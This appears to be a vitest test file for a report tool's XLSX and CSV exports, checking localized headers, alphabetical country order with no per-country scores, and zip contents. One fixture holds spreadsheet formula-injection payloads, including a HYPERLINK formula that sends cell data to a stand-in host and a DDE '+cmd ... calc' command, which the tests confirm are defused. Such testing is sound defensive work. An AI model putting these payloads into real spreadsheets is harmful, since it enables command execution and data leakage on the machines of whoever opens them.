// The exports a secretariat analyst opens: the XLSX read back with exceljs, the CSV files and zip.
// Every output keeps countries in alphabetical order and holds no per-country score.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import yauzl from 'yauzl';
import { describe, expect, it } from 'vitest';
import { isPerCountry, prepareReport, type PreparedReport } from '../../../core/analysis';
import { csvText, csvZipBytes } from '../../../core/analysis/csv';
import { xlsxBytes } from '../../../core/analysis/xlsx';
import { LANGUAGES, type Language } from '../../../core/i18n/languages';
import { NOW, sourceOf, submissionFor } from './fixture';
import { expectAlphabetical, RANKED, RANK_WORDS, rankedSubmissions } from './no-ranking';

const locale = (lng: string) => JSON.parse(readFileSync(path.resolve(__dirname, `../../../locales/${lng}/analysis.json`), 'utf8'));

async function report(language: Language, publishable = false, subs = rankedSubmissions()): Promise<PreparedReport> {
  return prepareReport({ source: sourceOf(subs), language, publishable, now: NOW });
}

async function workbook(r: PreparedReport): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await xlsxBytes(r.tables, { language: r.labels.language, created: NOW })) as unknown as ArrayBuffer);
  return wb;
}

/** RFC 4180 records of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      (row = []), (field = ''), i++;
    } else field += ch;
  }
  return rows;
}

const rowValues = (sheet: ExcelJS.Worksheet, row: number): unknown[] => (sheet.getRow(row).values as unknown[]).slice(1);
const columnValues = (sheet: ExcelJS.Worksheet, col: number): unknown[] => {
  const out: unknown[] = [];
  for (let r = 2; r <= sheet.rowCount; r++) out.push(sheet.getRow(r).getCell(col).value);
  return out;
};

/** The country column of every per-country sheet, alphabetical within each run of the same leading key (item, field). */
function expectCountriesAlphabetical(sheet: ExcelJS.Worksheet, countryHeader: string, language: string): void {
  const headers = rowValues(sheet, 1);
  const at = headers.indexOf(countryHeader) + 1;
  const groupCols = headers.slice(0, at - 1).map((_, i) => i + 1);
  const groups = new Map<string, string[]>();
  for (let r = 2; r <= sheet.rowCount; r++) {
    const row = sheet.getRow(r);
    const key = groupCols.map((c) => String(row.getCell(c).value ?? '')).join('\u0000');
    groups.set(key, [...(groups.get(key) ?? []), String(row.getCell(at).value)]);
  }
  for (const [key, names] of groups) {
    // Rows of one country stay together (a country's several table rows), so compare distinct runs.
    const runs = names.filter((n, i) => i === 0 || names[i - 1] !== n);
    expectAlphabetical(runs, language, `${sheet.name} ${key.replace(/\u0000/g, ' ')}`);
  }
}

describe.each(['en', 'ar'] as const)('XLSX in %s', (language) => {
  it('has a sheet per table with localized headers, frozen header row and filters; right to left in Arabic', async () => {
    const r = await report(language);
    const wb = await workbook(r);
    const text = locale(language);
    expect(wb.worksheets.map((s) => s.name)).toHaveLength(r.tables.length);
    expect(wb.worksheets[1]?.name).toBe(text.tables.participation);
    const participation = wb.worksheets[1] as ExcelJS.Worksheet;
    expect(rowValues(participation, 1).slice(0, 3)).toEqual([text.columns.country, text.columns.iso3, text.columns.group]);
    const status = wb.worksheets.find((s) => s.name === text.tables.status) as ExcelJS.Worksheet;
    expect(rowValues(status, 1).slice(0, 2)).toEqual([text.columns.item, text.columns.question]);
    for (const sheet of wb.worksheets) {
      const view = sheet.views[0] as ExcelJS.WorksheetViewFrozen & { rightToLeft?: boolean };
      expect(view.state, sheet.name).toBe('frozen');
      expect(view.ySplit, sheet.name).toBe(1);
      expect(Boolean(view.rightToLeft), sheet.name).toBe(language === 'ar');
      expect(sheet.autoFilter, sheet.name).toMatch(/^A1:[A-Z]+\d+$/);
      expect(sheet.getRow(1).font?.bold, sheet.name).toBe(true);
    }
  });

  it('keeps countries alphabetical in every sheet, never in the order of results, and scores no country', async () => {
    const r = await report(language);
    const wb = await workbook(r);
    const text = locale(language);
    const participation = wb.worksheets[1] as ExcelJS.Worksheet;
    const names = columnValues(participation, 1) as string[];
    expectAlphabetical(names, language, 'participation');
    expect(names).not.toEqual(RANKED.map((c) => r.labels.country(c)));
    const perCountry = r.tables.filter(isPerCountry).map((t) => t.id);
    expect(perCountry).toEqual(expect.arrayContaining(['participation', 'free-text', 'item-F.1', 'item-C.2', 'item-I.3']));
    for (const [i, table] of r.tables.entries()) {
      const sheet = wb.worksheets[i] as ExcelJS.Worksheet;
      const headers = rowValues(sheet, 1) as string[];
      for (const h of headers) expect(h, `${sheet.name}: header "${h}"`).not.toMatch(RANK_WORDS);
      if (isPerCountry(table)) {
        expectCountriesAlphabetical(sheet, text.columns.country, language);
        // A sheet that lists countries holds answers and facts, never a count or statistic of its own.
        expect(table.columns.filter((c) => c.kind === 'count' || c.kind === 'statistic'), sheet.name).toEqual([]);
      } else {
        expect(headers, sheet.name).not.toContain(text.columns.country);
      }
    }
    // The model itself: a participant has facts about its submission and nothing computed from answers.
    expect(Object.keys(r.model.participants[0] ?? {}).sort()).toEqual(
      ['baggingDate', 'checklistVersion', 'code', 'consent', 'externalIdentifier', 'group', 'name', 'responseLanguage', 'submissionRevision', 'use'].sort(),
    );
  });
});

it('keeps the model alphabetical in each of the six languages', async () => {
  for (const language of LANGUAGES) {
    const r = await report(language);
    expectAlphabetical(r.model.participants.map((p) => p.name), language, `participants (${language})`);
    const a7 = r.model.freeText.filter((e) => e.itemId === 'A.7').map((e) => e.country.name);
    expectAlphabetical(a7, language, `free text A.7 (${language})`);
    for (const table of r.model.tables) {
      const runs = table.rows.map((row) => row.country.name).filter((n, i, all) => i === 0 || all[i - 1] !== n);
      expectAlphabetical(runs, language, `${table.itemId} (${language})`);
    }
  }
});

describe('text from submissions', () => {
  const hostile = submissionFor('KEN', {
    answers: {
      'A.1': '=HYPERLINK("http://example.invalid/?"&A1,"open")',
      'F.1': [{ title: '+cmd|\' /C calc\'!A0', city: '@SUM(1,2)', period: '-2+3', description: 'a "quoted", comma\nand line', results: 'bell\u0007 and lone \uD800 surrogate', evidence: '', contact: '' }],
    },
  });

  it('is stored in XLSX as text, never as a formula, cleaned of characters XML cannot hold', async () => {
    const r = await report('en', false, [hostile]);
    const wb = await workbook(r);
    const free = wb.getWorksheet(locale('en').tables.freeText) as ExcelJS.Worksheet;
    const cells: ExcelJS.Cell[] = [];
    free.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const a1 = cells.find((c) => String(c.value).startsWith('=HYPERLINK'));
    expect(a1?.type).toBe(ExcelJS.ValueType.String);
    expect(a1?.formula).toBeUndefined();
    const practices = wb.worksheets.find((s) => s.name.startsWith('F.1')) as ExcelJS.Worksheet;
    const row = rowValues(practices, 2);
    expect(row.slice(3, 6)).toEqual(["+cmd|' /C calc'!A0", '@SUM(1,2)', '-2+3']);
    expect(row[7]).toBe('bell and lone \uFFFD surrogate');
    for (let c = 1; c <= 6; c++) expect(practices.getRow(2).getCell(c).type).toBe(ExcelJS.ValueType.String);
  });

  it('is defused in CSV: formula starts prefixed with an apostrophe, RFC 4180 quoting, UTF-8 BOM', async () => {
    const r = await report('en', false, [hostile]);
    const csv = csvText(r.tables.find((t) => t.id === 'item-F.1') as PreparedReport['tables'][number]);
    expect(csv.startsWith('\uFEFFCountry,ISO code,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const record = csv.split('\r\n')[1] as string;
    expect(record).toContain(`,'+cmd|' /C calc'!A0,"'@SUM(1,2)",'-2+3,"a ""quoted"", comma\nand line",`);
    expect(csvText(r.tables.find((t) => t.id === 'free-text') as PreparedReport['tables'][number])).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A1,""open"")"`);
  });
});

describe('CSV', () => {
  it('writes every table as its own file in one zip, in sheet order, each with a BOM and in the export language', async () => {
    const r = await report('ru');
    const bytes = await csvZipBytes(r.tables, NOW);
    const entries = await new Promise<Map<string, Buffer>>((resolve, reject) => {
      const found = new Map<string, Buffer>();
      yauzl.fromBuffer(bytes, { lazyEntries: true }, (err, zip) => {
        if (err || !zip) return reject(err);
        zip.on('entry', (entry: yauzl.Entry) =>
          zip.openReadStream(entry, (e, stream) => {
            if (e || !stream) return reject(e);
            const chunks: Buffer[] = [];
            stream.on('data', (c: Buffer) => chunks.push(c));
            stream.on('end', () => (found.set(entry.fileName, Buffer.concat(chunks)), zip.readEntry()));
          }),
        );
        zip.on('end', () => resolve(found));
        zip.readEntry();
      });
    });
    expect([...entries.keys()]).toEqual(r.tables.map((t, i) => `${String(i + 1).padStart(2, '0')}-${t.id}.csv`));
    for (const content of entries.values()) expect([...content.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const participation = parseCsv((entries.get('02-participation.csv') as Buffer).toString('utf8').slice(1));
    expect(participation[0]?.[0]).toBe(locale('ru').columns.country);
    expectAlphabetical(participation.slice(1).map((row) => row[0] as string), 'ru', 'CSV participation');
    // Every CSV file that lists countries keeps them alphabetical within each item (and field).
    for (const [i, table] of r.tables.entries()) {
      if (!isPerCountry(table)) continue;
      const rows = parseCsv((entries.get(`${String(i + 1).padStart(2, '0')}-${table.id}.csv`) as Buffer).toString('utf8').slice(1));
      const at = table.columns.findIndex((c) => c.kind === 'country');
      const groups = new Map<string, string[]>();
      for (const row of rows.slice(1)) {
        const key = row.slice(0, at).join('\u0000');
        groups.set(key, [...(groups.get(key) ?? []), row[at] as string]);
      }
      for (const names of groups.values()) expectAlphabetical(names.filter((n, k) => k === 0 || names[k - 1] !== n), 'ru', `CSV ${table.id}`);
      expect(rows.length - 1, table.id).toBe(table.rows.length);
    }
  });
});
